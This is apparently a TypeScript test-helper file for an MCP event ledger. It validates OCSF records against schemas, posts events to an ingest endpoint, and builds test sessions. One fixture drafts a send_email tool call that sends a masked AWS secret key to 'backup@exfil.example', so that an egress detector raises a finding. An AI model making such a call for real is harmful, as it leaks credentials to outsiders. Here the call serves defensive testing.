import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import type { LedgerEvent } from '@mcp-ledger/events';
import { expect } from 'vitest';
import { sealSession, toNdjson, toolCallDrafts } from '../support/event-factory';

const FIXTURES = join(__dirname, '..', 'fixtures', 'ocsf');
const schema = (name: string) => JSON.parse(readFileSync(join(FIXTURES, name), 'utf8')) as Record<string, unknown>;

const ajv = new Ajv2020({ allErrors: true, allowUnionTypes: true });
const validators = {
  '1.8.0': {
    6003: ajv.compile(schema('api_activity.schema.json')),
    2004: ajv.compile(schema('detection_finding.schema.json')),
  },
  '1.9.0-dev': {
    6003: ajv.compile(schema('1.9.0-dev/api_activity.ai_operation.record_integrity.security_control.schema.json')),
    2004: ajv.compile(schema('1.9.0-dev/detection_finding.record_integrity.security_control.schema.json')),
  },
};

export interface OcsfRecord {
  class_uid: number;
  metadata: { uid: string; tenant_uid: string };
  finding_info?: { uid: string; types: string[] };
  [key: string]: unknown;
}

function errorsAgainst(record: OcsfRecord, version: keyof typeof validators): string {
  if (record.class_uid !== 6003 && record.class_uid !== 2004) return `unexpected class_uid ${record.class_uid}`;
  const validate = validators[version][record.class_uid];
  const label = `${record.class_uid} ${record.metadata?.uid}`;
  return validate(record) ? '' : `${label}: ${ajv.errorsText(validate.errors)}`;
}

/** Validation errors of an OCSF record against its class's 1.8.0 schema; '' when valid. */
export const ocsfErrors = (record: OcsfRecord): string => errorsAgainst(record, '1.8.0');

/** Validation errors of an OCSF record against its class's 1.9.0-dev schema (with `record_integrity`); '' when valid. */
export const ocsf19Errors = (record: OcsfRecord): string => errorsAgainst(record, '1.9.0-dev');

export const authHeaders = (): Record<string, string> =>
  process.env['LEDGER_TOKEN'] ? { authorization: `Bearer ${process.env['LEDGER_TOKEN']}` } : {};

/** Sends sealed events to a ledger's HTTP ingest in a tenant, as the emitter does; expects 202. */
export async function postToTenant(url: string, tenant: string, events: readonly LedgerEvent[]): Promise<void> {
  const response = await fetch(`${url}/v1/events`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-ndjson', 'x-ledger-tenant': tenant, ...authHeaders() },
    body: toNdjson(events),
  });
  expect(response.status, await response.text()).toBe(202);
}

/**
 * A session of `calls` echo calls plus one send_email whose body carries a masked AWS
 * secret, so the egress analyser raises a `sensitive_data_egress` finding about it.
 */
export function sessionWithFinding(tenant: string, sessionId: string, calls = 3, startMs?: number): LedgerEvent[] {
  const drafts: { type: string; data: Record<string, unknown> }[] = [{ type: 'session.started', data: { 'mcp.protocol.version': '2025-06-18', client_info: { name: 'siem-client', version: '1' } } }];
  for (let i = 0; i < calls; i++) drafts.push(...toolCallDrafts(`call-${i}`, 'echo', { text: `message ${i}` }, `echo ${i}`));
  const args = { to: 'backup@exfil.example', body: 'aws_secret_access_key=[REDACTED:aws_secret_access_key]' };
  drafts.push(...toolCallDrafts('call-send', 'send_email', args, 'sent'));
  return sealSession(drafts, { tenant, sessionId, ...(startMs === undefined ? {} : { startMs }) });
}

export const lines = (body: string): string[] => body.split('\n').filter((line) => line !== '');

/** Counts of each value: a value seen twice appears with 2. */
export function duplicates(values: readonly string[]): string[] {
  const seen = new Set<string>();
  const twice = new Set<string>();
  for (const value of values) (seen.has(value) ? twice : seen).add(value);
  return [...twice];
}
